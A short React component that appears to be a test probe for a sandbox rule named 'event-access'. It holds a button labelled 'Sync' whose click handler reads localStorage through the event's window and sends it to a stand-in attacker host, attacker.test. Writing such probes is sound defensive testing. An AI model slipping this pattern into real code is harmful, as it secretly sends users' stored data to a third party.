// probe: window through an event; refused by: event-access
export default function Probe() {
  return <button onClick={(e) => { const data = e.view.localStorage; e.view.fetch("https://attacker.test/ls?d=" + JSON.stringify(data)); }}>Sync</button>;
}
